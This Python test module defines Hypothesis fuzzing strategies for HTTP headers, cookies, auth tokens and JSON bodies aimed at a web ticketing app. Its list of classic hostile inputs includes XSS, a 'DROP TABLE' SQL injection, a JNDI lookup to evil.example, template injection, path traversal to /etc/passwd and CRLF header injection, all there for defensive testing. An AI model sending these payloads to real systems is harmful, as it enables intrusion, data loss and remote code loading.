"""What hypothesis makes up for headers, tokens and bodies, and how often."""

import os

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# The same requests each time; `make fuzz` asks for more of them.
EXAMPLES = max(40, int(os.environ.get("CASES") or 0) // 40)
FUZZED = settings(
    max_examples=EXAMPLES, derandomize=True, database=None, deadline=None, suppress_health_check=[*HealthCheck]
)

# What gunicorn lets through in a header: every byte but those that end it.
_BYTES = st.binary(max_size=120).map(lambda raw: raw.translate(None, b"\r\n\0"))
_CLASSICS = [
    b"",
    b" ",
    b",",
    b'"',
    b"*",
    b"0",
    b"-1",
    b"1e309",
    b"9" * 400,
    b"\xff\xfe\x80",
    "ünï¢ödé ‮ 🖨".encode(),
    b"<script>alert(1)</script>",
    b"'; DROP TABLE tickets_ticket; --",
    b"${jndi:ldap://evil.example/a}",
    b"{{7*7}}",
    b"../../../../etc/passwd",
    b"%00%0d%0aSet-Cookie:%20a=b",
    b"a=" + b"b" * 8_000,
    b"x" * 60_000,
]
header_values = st.one_of(st.sampled_from(_CLASSICS), _BYTES)

NAMES = [
    "Accept",
    "Accept-Encoding",
    "Accept-Language",
    "Authorization",
    "Content-Encoding",
    "Content-Type",
    "Cookie",
    "Expect",
    "Forwarded",
    "If-Match",
    "If-Modified-Since",
    "If-None-Match",
    "Idempotency-Key",
    "Origin",
    "Range",
    "Referer",
    "User-Agent",
    "X-CSRFToken",
    "X-Desk-Background",
    "X-Follow-Token",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-HTTP-Method-Override",
    "X-Real-IP",
    "X-Request-ID",
    "X-Requested-With",
]
# Values that have the form of what is expected, and something else inside.
_SHAPED = st.one_of(
    st.tuples(st.sampled_from([b"Bearer ", b"bearer desk_", b"Basic ", b"Token ", b'W/"', b'"', b"utf-8;q="]), _BYTES),
    st.tuples(st.sampled_from([b"sessionid=", b"csrftoken=", b"messages=", b"a=b; sessionid="]), header_values),
    st.tuples(st.sampled_from([b"application/json; charset=", b"multipart/form-data; boundary=", b"text/"]), _BYTES),
).map(b"".join)
headers = st.dictionaries(st.sampled_from(NAMES), st.one_of(header_values, _SHAPED), min_size=1, max_size=4)

_TEXTS = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["\x00", "\ud800", "a\udfff", "\u202e", "__proto__", "1" * 400, "NaN", "null"]),
)
_NUMBERS = st.one_of(st.integers(), st.sampled_from([2**31, 2**63, -(2**63) - 1, 10**400]), st.floats())
_VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), _TEXTS, _NUMBERS),
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(_TEXTS, inner, max_size=4)),
    max_leaves=8,
)


def bodies_with(names: list[str]) -> st.SearchStrategy[object]:
    """Objects whose keys are the right ones more often than not, lists of them, and anything else."""
    named = st.dictionaries(st.one_of(st.sampled_from(names), _TEXTS), _VALUES, max_size=len(names))
    return st.one_of(named, named, st.lists(named, max_size=3), _VALUES)


def damaged(text: str) -> st.SearchStrategy[str]:
    """`text` with something about it changed."""
    places = st.integers(0, len(text) - 1)
    characters = st.characters(min_codepoint=0x21, max_codepoint=0xFF, exclude_characters='";,\x85\xa0')
    return st.one_of(
        st.tuples(places, characters).map(lambda at: text[: at[0]] + at[1] + text[at[0] + 1 :]),
        places.map(lambda at: text[:at]),
        places.map(lambda at: text[at + 1 :]),
        st.tuples(places, characters).map(lambda at: text[: at[0]] + at[1] + text[at[0] :]),
        characters.map(lambda more: text + more),
        st.just(text.swapcase()),
        st.just(text[::-1]),
        st.just(text * 2),
    ).filter(lambda other: other != text)
